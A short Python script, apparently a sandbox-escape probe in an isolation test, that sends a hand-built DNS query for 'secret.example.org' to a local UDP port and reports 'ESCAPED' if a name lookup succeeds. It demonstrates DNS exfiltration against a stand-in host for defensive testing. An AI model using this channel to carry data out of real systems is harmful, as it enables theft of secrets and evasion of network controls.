"""Carries a secret out in a question for a name."""

import json
import socket
import sys

scene = json.loads(sys.argv[1])
question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07example\x03org\0\0\x01\0\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    try:
        link.sendto(question, ("127.0.0.1", scene["udp"]))
    except OSError as error:
        print("tried", error)
socket.setdefaulttimeout(0.3)
try:
    print("ESCAPED: a name was found", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print("tried", error)
